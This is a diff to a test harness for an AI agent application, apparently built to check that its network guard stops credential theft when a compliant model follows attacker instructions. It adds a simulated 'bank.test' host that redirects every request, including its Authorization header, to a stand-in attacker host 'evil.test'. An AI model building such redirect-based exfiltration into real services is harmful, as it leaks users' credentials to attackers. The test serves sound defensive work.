@@ -1,4 +1,5 @@
 // The real core in this process, with the attacker's machine as its internet and a model that obeys everybody.
+import { randomBytes } from 'node:crypto';
 import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
@@ -8,6 +9,7 @@ import { createClient } from '#main/contract/client.ts';
 import { contract } from '#main/contract/contract.ts';
 import type { SessionId } from '#main/contract/ids.ts';
 import type { Approval } from '#main/contract/messages.ts';
+import { createPublicHosts, type PublicHost } from '#main/guard/egress/testing/public-hosts.ts';
 import type { Host } from '#main/hosts/port.ts';
 import { createRpc } from '#main/platform/rpc/create-rpc.ts';
 import { createMemoryPorts } from '#main/platform/rpc/memory/memory-ports.ts';
@@ -28,12 +30,24 @@ type Running = {
   close(): Promise<void>;
 };
 
-async function startCore(o: { root: string; sink: Sink; model: ObedientModel }): Promise<Running> {
+/** Hosts with certificates: one that the person's key is for, and the attacker's. */
+export type KeyHosts = { readonly value: string; readonly bank: PublicHost; readonly evil: PublicHost };
+
+type CoreOptions = {
+  readonly root: string;
+  readonly sink: Sink;
+  readonly model: ObedientModel;
+  readonly key: string;
+  readonly trust: readonly string[];
+};
+
+async function startCore(o: CoreOptions): Promise<Running> {
   const environment = {
     OPENAI_BASE_URL: `${o.model.server.url}/v1`,
     OPENAI_API_KEY: 'sk-test-0123456789abcdef',
     LIMPET_FIND_LOCAL_MODELS: 'false',
     LIMPET_WORKSPACE: join(o.root, 'folders', 'first'),
+    LIMPET_SECRET_REQUEST_CODE: o.key,
     PATH: process.env.PATH ?? '/usr/bin:/bin',
   };
   const loaded = loadConfig({ flags: { 'data-dir': join(o.root, 'data') }, environment, home: join(o.root, 'home') });
@@ -44,6 +58,7 @@ async function startCore(o: { root: string; sink: Sink; model: ObedientModel }):
       return [{ address: '127.0.0.1', family: 4 }];
     },
     isAllowedAddress: () => true,
+    trust: o.trust,
   };
   const app = await createApp({ loaded, host, version: '9.9.9', internet });
   const life = new AbortController();
@@ -78,6 +93,7 @@ export type Person = (approval: Approval) => boolean;
 export type World = {
   readonly sink: Sink;
   readonly model: ObedientModel;
+  readonly keyHosts: KeyHosts;
   readonly core: () => Running;
   /** Questions that were asked since the last look. */
   readonly questions: Approval[];
@@ -96,7 +112,16 @@ export async function startWorld(): Promise<World> {
   const root = mkdtempSync(join(tmpdir(), 'limpet-attacks-'));
   mkdirSync(join(root, 'home'), { recursive: true });
   const [sink, model] = await Promise.all([startSink(), startObedientModel()]);
-  let core = await startCore({ root, sink, model });
+  const hosts = await createPublicHosts();
+  const evil = await hosts.https('evil.test');
+  // Itself led astray: what comes to it is sent on to the attacker, with all that it held.
+  const bank = await hosts.https('bank.test', ({ url, headers }, response) => {
+    const more = encodeURIComponent(`${url} ${headers.authorization ?? ''}`);
+    response.writeHead(307, { location: `https://evil.test:${evil.port}/on?${more}` }).end();
+  });
+  const key = `key${randomBytes(12).toString('hex')}`;
+  const options = { root, sink, model, key, trust: hosts.trust };
+  let core = await startCore(options);
   let person: Person = () => false;
   const questions: Approval[] = [];
   const answered = new Set<string>();
@@ -111,11 +136,11 @@ export async function startWorld(): Promise<World> {
   };
   let made = 0;
   return {
-    ...{ sink, model, questions },
+    ...{ sink, model, questions, keyHosts: { value: key, bank, evil } },
     core: () => core,
     async restart() {
       await core.close();
-      core = await startCore({ root, sink, model });
+      core = await startCore(options);
     },
     answers(next) {
       person = next;
@@ -145,7 +170,7 @@ export async function startWorld(): Promise<World> {
     },
     async close() {
       await core.close();
-      await Promise.all([sink.close(), model.server.close()]);
+      await Promise.all([sink.close(), model.server.close(), hosts.close()]);
       rmSync(root, { recursive: true, force: true });
     },
   };
